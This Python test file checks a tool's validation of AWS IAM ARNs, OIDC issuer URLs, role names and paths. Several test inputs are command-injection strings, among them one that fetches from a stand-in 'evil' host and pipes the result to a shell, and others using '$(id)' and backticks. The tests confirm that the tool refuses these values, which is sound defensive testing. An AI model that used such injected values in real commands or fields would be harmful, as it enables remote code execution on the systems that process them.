"""ARNs of IAM and OIDC issuers, against the formats that AWS documents.

https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_identifiers.html and, for the characters of names and paths,
https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html ("IAM name requirements")
"""

import string

import boto3
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from irsa.rules import names
from irsa.rules.arns import EXAMPLES, PARTITIONS, check_issuer, issuer_of_provider, parse_iam_arn, provider_of_role
from irsa.rules.mistakes import Mistake
from irsa.rules.names import check_name

ACCOUNT = "111122223333"
ALLOWED = string.ascii_letters + string.digits + "+=,.@_-"
ISSUERS = [
    ("aws", "oidc.eks.us-west-2.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE"),
    ("aws-cn", "oidc.eks.cn-north-1.amazonaws.com.cn/id/EXAMPLE"),
    ("aws-us-gov", "oidc.eks.us-gov-west-1.amazonaws.com/id/EXAMPLE"),
    ("aws-eusc", "oidc-eks.eusc-de-east-1.api.amazonwebservices.eu/id/0"),
    ("aws", "oidc-eks.us-west-2.api.aws/id/EXAMPLE"),
    ("aws", "s3-us-west-2.amazonaws.com/my_bucket.oidc~1"),
    ("aws", "keycloak.example:8443/realms/my%20realm"),
    ("aws", "token.actions.githubusercontent.com"),
]


def refused(arn: str, kind: str) -> bool:
    try:
        parse_iam_arn(arn, kind)
    except Mistake:
        return True
    return False


@pytest.mark.parametrize(
    ("arn", "kind", "word"),
    [
        ("my-policy", "policy", "six parts"),
        ("a:aws:iam::111122223333:role/x", "role", "six parts"),
        ("arn:aws:iam::12:policy/x", "policy", "'12', not 12 digits"),
        ("arn:aws:iam::111122223333:role/a/", "role", "role/NAME"),
        ("arn:aws:iam::aws:role/x", "role", "12 digits"),
        ("arn:aws-xx:iam::111122223333:role/x", "role", "partition"),
        ("arn:aws:s3::111122223333:role/x", "role", "service"),
        ("arn:aws:iam:us-west-2:111122223333:role/x", "role", "region"),
        ("arn:aws:iam::111122223333:user/x", "role", "'user/x'"),
        ("arn:aws:iam::111122223333:role/a*", "role", "of letters"),
    ],
)
def test_what_part_of_an_arn_is_wrong(arn: str, kind: str, word: str) -> None:
    with pytest.raises(Mistake, match=word):
        parse_iam_arn(arn, kind)


@pytest.mark.parametrize(("partition", "issuer"), ISSUERS)
def test_a_provider_and_its_issuer_lead_to_each_other(partition: str, issuer: str) -> None:
    """Protects cross-account roles: the provider is the one in the role's own account and partition.

    Source: https://docs.aws.amazon.com/eks/latest/userguide/cross-account-access.html
    """
    provider = f"arn:{partition}:iam::444455556666:oidc-provider/{issuer}"

    assert provider_of_role(f"arn:{partition}:iam::444455556666:role/team/my-role", f"https://{issuer}") == provider
    assert issuer_of_provider(provider) == issuer
    assert check_issuer(f"https://{issuer}") == f"https://{issuer}"


def test_the_partitions_are_those_of_aws() -> None:
    assert set(PARTITIONS) == set(boto3.session.Session().get_available_partitions())


@pytest.mark.parametrize("arn", ["arn:aws:iam::111122223333:role/r", "oidc.eks.us-west-2.amazonaws.com/id/EXAMPLE", ""])
def test_an_issuer_comes_only_from_a_provider(arn: str) -> None:
    with pytest.raises(Mistake):
        issuer_of_provider(arn)


@pytest.mark.parametrize("issuer", ["", "https://", "http://issuer.example", "https://" + "x" * 248])
def test_issuers_that_no_provider_can_have(issuer: str) -> None:
    with pytest.raises(Mistake, match="not an OIDC issuer"):
        check_issuer(issuer)


@pytest.mark.parametrize(
    "resource",
    [*("x;curl${IFS}evil|sh", "日本.example", "a b", "a\n", "$(id)", "a`id`", "a//b", "?a"), *("a?x=y", "a#x", "a/*")],
)
def test_issuers_that_are_no_urls(resource: str) -> None:
    """The attack: an issuer that runs a command in `curl ISSUER/.well-known/openid-configuration`.

    IAM refuses others: "path components are allowed but query parameters are not", in
    https://docs.aws.amazon.com/IAM/latest/APIReference/API_CreateOpenIDConnectProvider.html
    """
    assert refused(f"arn:aws:iam::{ACCOUNT}:oidc-provider/{resource}", "oidc-provider")
    with pytest.raises(Mistake):
        check_issuer(f"https://{resource}")


@pytest.mark.parametrize("aws_account", ["\u0661" * 12, "\uff11" * 12, f"{ACCOUNT[:-1]}\u0663", f"{ACCOUNT}\n"])
def test_aws_accounts_in_other_digits(aws_account: str) -> None:
    r"""The attack: digits of other scripts, which `\d` takes for digits, and a line break after the last one."""
    for kind in ("role", "policy", "oidc-provider"):
        assert refused(f"arn:aws:iam::{aws_account}:{kind}/x", kind)


@given(st.text(st.characters(max_codepoint=0x3000, exclude_characters="/"), min_size=1, max_size=70))
@example("a\n")
@example("x" * 65)
def test_a_role_name_in_an_arn_is_a_role_name(name: str) -> None:
    legal = len(name) <= 64 and set(name) <= set(ALLOWED)

    assert refused(f"arn:aws:iam::{ACCOUNT}:role/{name}", "role") is not legal
    if legal:
        assert check_name(name, names.ROLE_NAMES) == name
    else:
        with pytest.raises(Mistake):
            check_name(name, names.ROLE_NAMES)


@given(st.text(st.sampled_from(f"{ALLOWED}/*$(; ä\n"), max_size=12).map(lambda text: f"/{text}/"))
@example("/a*b$(id)/")
@example("/team/\n")
@example("//")
def test_a_path_that_is_taken_makes_an_arn_that_is_read(path: str) -> None:
    """The attack: the role path `/a*b$(id)/` was taken, and `irsa verify` then refused the ARN of that very role."""
    for kind, rule in (("role", names.ROLE_PATH), ("policy", names.MANAGED_POLICY_PATH)):
        try:
            check_name(path, rule)
        except Mistake:
            continue
        assert not refused(f"arn:aws:iam::{ACCOUNT}:{kind}{path}my-name", kind)
        assert set(path) <= set(f"{ALLOWED}/")


# https://docs.aws.amazon.com/IAM/latest/UserGuide/reference-arns.html#arns-syntax, and names of IAM's API reference.
NAMES = st.from_regex(r"[A-Za-z0-9+=,.@_-]{1,64}", fullmatch=True)
# The resource of an OIDC provider is its issuer's host and path.
HOSTS = st.from_regex(r"[a-z0-9]{1,20}(\.[a-z0-9]{1,20}){1,3}", fullmatch=True)
AWS_ACCOUNTS = st.from_regex(r"[0-9]{12}", fullmatch=True)


@given(
    st.sampled_from(["aws", "aws-cn", "aws-us-gov"]),
    AWS_ACCOUNTS,
    st.sampled_from([*{*EXAMPLES} - {"cluster"}]),
    HOSTS,
    st.lists(NAMES, min_size=1, max_size=3),
)
def test_an_arn_is_its_parts(partition: str, aws_account: str, kind: str, host: str, names: list[str]) -> None:
    names = [host, *names] if kind == "oidc-provider" else names
    text = f"arn:{partition}:iam::{aws_account}:{kind}/{'/'.join(names)}"
    arn = parse_iam_arn(text, kind)

    assert (arn.partition, arn.account_id, arn.type, arn.resource) == (partition, aws_account, kind, "/".join(names))
    assert arn.name == names[-1]
    assert str(arn) == text


def test_the_name_of_a_policy_leads_to_its_whole_arn() -> None:
    with pytest.raises(Mistake) as name:
        parse_iam_arn("AmazonS3ReadOnlyAccess", "policy")
    assert "write arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess or" in name.value.fix
